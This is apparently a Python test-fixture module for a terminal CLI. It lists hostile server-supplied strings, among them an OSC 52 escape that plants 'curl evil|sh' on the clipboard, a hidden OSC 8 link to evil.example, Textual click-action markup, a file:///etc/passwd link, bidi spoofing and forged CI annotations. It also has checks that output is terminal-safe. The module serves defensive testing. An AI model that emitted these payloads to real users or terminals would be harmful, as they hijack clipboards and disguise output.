"""What an untrusted server may put in a string, as data: markup that Rich/Textual would interpret,
terminal escape sequences, invisible and direction-changing characters, forged CI lines, huge strings.

Each payload has a short id for test names (``pytest.mark.parametrize(..., ids=ids())``). A payload
that needs a place on disk (the screenshot action) has ``{DIR}``: fill it with :func:`payload_for`.
Body-level payloads (bytes that are not a string at all) are in :data:`BODIES`.
"""

from __future__ import annotations

import json
import re
import unicodedata
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Payload:
    id: str
    text: str
    why: str


PAYLOADS: tuple[Payload, ...] = (
    Payload("markup-close", "[/]", "a bare closing tag: Rich raises MarkupError if it parses it"),
    Payload("click-quit", "[@click=app.quit]x[/]", "Textual action markup: a click would quit the app"),
    Payload("click-screenshot", "[@click=app.screenshot('x.svg','{DIR}')]x[/]",
            "Textual action markup that writes a file where the server says"),
    Payload("link-file", "[link=file:///etc/passwd]x[/link]", "a clickable link to a local file"),
    Payload("markup-style", "[bold red]x", "an unclosed style that would restyle everything after it"),
    Payload("osc52", "\x1b]52;c;Y3VybCBldmlsfHNo\x07", "OSC 52: writes 'curl evil|sh' to the clipboard"),
    Payload("osc8", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "OSC 8: a hidden hyperlink"),
    Payload("csi-clear", "\x1b[2J", "CSI: clears the screen"),
    Payload("bel", "x\x07y", "BEL"),
    Payload("nul", "x\x00y", "NUL"),
    Payload("bidi-rlo", "admin\u202egnp.exe", "RIGHT-TO-LEFT OVERRIDE: text shown reversed"),
    Payload("zero-width", "ad\u200bmin\u2060x\ufeff", "zero-width space, word joiner, BOM: invisible characters"),
    Payload("fillers", "ad\u3164min\u115f\u034f\U000e0100", "Hangul fillers, grapheme joiner, variation selector 17: "
            "default-ignorable characters drawn as nothing or a blank"),
    Payload("c1-csi", "x\x9b2Jy", "C1 CSI: an 8-bit escape some terminals obey"),
    Payload("c1-nel", "x\x85y", "C1 NEL: a line break some terminals obey"),
    Payload("del", "x\x7fy", "DEL"),
    Payload("huge", "A" * 20_000, "20,000 characters"),
    Payload("newline", "a\nb", "a newline inside a one-line field"),
    Payload("carriage-return", "good\roverwritten", "CR: the rest overwrites the start of the line"),
    Payload("line-separator", "a\u2028b", "U+2028 LINE SEPARATOR"),
    Payload("ci-forge", "x\n::error::forged", "a line that forges a GitHub Actions annotation"),
)

# Whole bodies that are not a string at all: set them with FakeStrapi.override(..., raw=...).
BODIES: dict[str, bytes] = {
    "invalid-utf8": b'{"data":{"name":"\xff\xfe\xc3\x28 bad"}}',
    "truncated-json": b'{"data":{"name":"cut',
    "non-finite": b'{"data":{"id":1e999,"total":-1e999,"n":NaN,"pageCount":Infinity}}',
    "deep-nesting": b'{"data":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "not-an-object": b'"just a string"',
}


def ids() -> list[str]:
    return [p.id for p in PAYLOADS]


def by_id(payload_id: str) -> Payload:
    return next(p for p in PAYLOADS if p.id == payload_id)


def payload_for(p: Payload, directory: Path | str = "/nonexistent") -> str:
    """The payload's text, with ``{DIR}`` (the screenshot target) set to ``directory``."""
    return p.text.replace("{DIR}", str(directory))


def deep_json(depth: int = 100_000) -> bytes:
    """A JSON body nested ``depth`` arrays deep inside ``data`` (Python's json raises RecursionError)."""
    return b'{"data":' + b"[" * depth + b"]" * depth + b"}"


def huge_json(size: int = 9 * 1024 * 1024) -> bytes:
    """A valid JSON body of about ``size`` bytes (over the console's 8 MB limit by default)."""
    return json.dumps({"data": {"name": "A" * size}}).encode()


# --- what CLI output may hold -------------------------------------------------------------------------

BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
INVISIBLE = set("\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u180e"
                "\u034f\u115f\u1160\u3164\uffa0") | {chr(c) for c in range(0xE0000, 0xE1000)}
LINE_BREAKS = set("\u2028\u2029\x85\x0b\x0c")
# Lines a CI runner reads as commands: GitHub Actions (::error::, ::add-mask::), Azure (##vso[), TeamCity-ish (##[).
FORGED_LINE = re.compile(r"^\s*(::[a-z-]+|##\[|##vso\[)", re.I)


def unsafe_characters(text: str, *, allow: str = "\n\t") -> list[tuple[int, str]]:
    """(offset, name) of every character a terminal or a reader could be fooled by."""
    found = []
    for i, ch in enumerate(text):
        code = ord(ch)
        if ch in allow:
            continue
        if code < 0x20 or code == 0x7F or 0x80 <= code < 0xA0 or ch in BIDI or ch in INVISIBLE or ch in LINE_BREAKS:
            found.append((i, unicodedata.name(ch, f"U+{code:04X}")))
    return found


def assert_terminal_safe(text: str, *, allow: str = "\n\t", forged: bool = True) -> None:
    """Fail when ``text`` (CLI output) holds ESC, a C0 control other than those in ``allow``, a C1
    control, DEL, a bidi or zero-width character, an odd line break, or (``forged``) a line that starts
    like a CI runner command (``::error::``, ``##vso[``)."""
    bad = unsafe_characters(text, allow=allow)
    assert not bad, f"unsafe characters in output: {bad[:10]} (first of {len(bad)}) near {text[max(0, bad[0][0] - 40):bad[0][0] + 40]!r}"
    if forged:
        lines = [line for line in text.splitlines() if FORGED_LINE.match(line)]
        assert not lines, f"forged line(s) in output: {lines[:3]!r}"
